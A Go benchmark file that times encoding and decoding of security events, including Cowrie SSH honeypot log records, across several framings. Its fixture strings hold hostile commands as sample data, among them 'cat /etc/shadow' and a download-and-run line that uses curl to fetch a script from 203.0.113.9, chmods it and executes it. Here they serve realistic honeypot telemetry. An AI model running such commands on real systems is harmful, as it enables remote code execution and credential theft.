package wire

import (
	"strings"
	"testing"
	"time"
)

func BenchmarkEvent(b *testing.B) {
	d := newDecoder(b, DefaultLimits())
	for _, size := range []struct {
		name string
		n    int
	}{{"payload=100B", 100}, {"payload=10KB", 10_000}} {
		ev := fullEvent()
		field := `{"command_text":"cat /etc/shadow","uid":0,"argv":["cat","/etc/shadow"],"pwd":"/root"}`
		ev.Payload = []byte(`{"list":[` + strings.TrimSuffix(strings.Repeat(field+",", max(1, size.n/len(field))), ",") + `]}`)
		for _, framing := range framings() {
			data, err := newEncoder(b, framing).Event(nil, &ev)
			if err != nil {
				b.Fatal(err)
			}
			b.Run(string(framing)+"/"+size.name, func(b *testing.B) {
				b.ReportAllocs()
				b.SetBytes(int64(len(data)))
				for b.Loop() {
					if _, _, err := d.Event(data, time.Time{}); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

func BenchmarkTag(b *testing.B) {
	tag := fullTag()
	for _, framing := range framings() {
		e := newEncoder(b, framing)
		b.Run(string(framing), func(b *testing.B) {
			b.ReportAllocs()
			var dst []byte
			for b.Loop() {
				var err error
				if dst, err = e.Tag(dst[:0], &tag, tag.EventTime); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// What a record of cowrie costs, beside the same event as a TaggerEvent in JSON and in Avro.
func BenchmarkCowrie(b *testing.B) {
	d, ours := newCowrie(b, DefaultLimits()), newDecoder(b, DefaultLimits())
	algorithms := `["curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "diffie-hellman-group14-sha256"]`
	for _, ev := range []struct{ name, line string }{
		{"command", cowrieLine("cowrie.command.input", `"input":"cd /tmp && curl -O http://203.0.113.9/a.sh && chmod 777 a.sh && sh a.sh","src_port":40000,"uuid":"0b6bf8a4-6f7c-4b6e-9d9e-0a4b1a2c3d4e"`)},
		{"escapes", cowrieLine("cowrie.command.input", `"input":"echo -e \"x\\ny\" > \"/tmp/z\"; sh -c \"cat /etc/shadow\"","uuid":"0b6bf8a4-6f7c-4b6e-9d9e-0a4b1a2c3d4e"`)},
		{"login", cowrieLine("cowrie.login.failed", `"username":"root","password":"123456","uuid":"0b6bf8a4-6f7c-4b6e-9d9e-0a4b1a2c3d4e"`)},
		{"kex", cowrieLine("cowrie.client.kex", `"hassh":"00112233445566778899aabbccddeeff","hasshAlgorithms":"a,b,c;d,e;f","kexAlgs":`+algorithms+`,"keyAlgs":`+algorithms+`,"encCS":`+algorithms)},
		{"skipped", cowrieLine("cowrie.session.connect", `"src_port":40000,"dst_ip":"192.0.2.1","dst_port":2222,"uuid":"0b6bf8a4-6f7c-4b6e-9d9e-0a4b1a2c3d4e"`)},
	} {
		run := func(name string, d *Decoder, data []byte) {
			b.Run(name+"/"+ev.name, func(b *testing.B) {
				b.ReportAllocs()
				b.SetBytes(int64(len(data)))
				for b.Loop() {
					_, _, _ = d.Event(data, time.Time{})
				}
			})
		}
		run("cowrie", d, []byte(ev.line))
		if decoded, _, err := d.Event([]byte(ev.line), time.Time{}); err == nil {
			run("json", ours, must(newEncoder(b, JSON).Event(nil, &decoded)))
			run("single_object", ours, must(newEncoder(b, SingleObject).Event(nil, &decoded)))
		}
	}
}
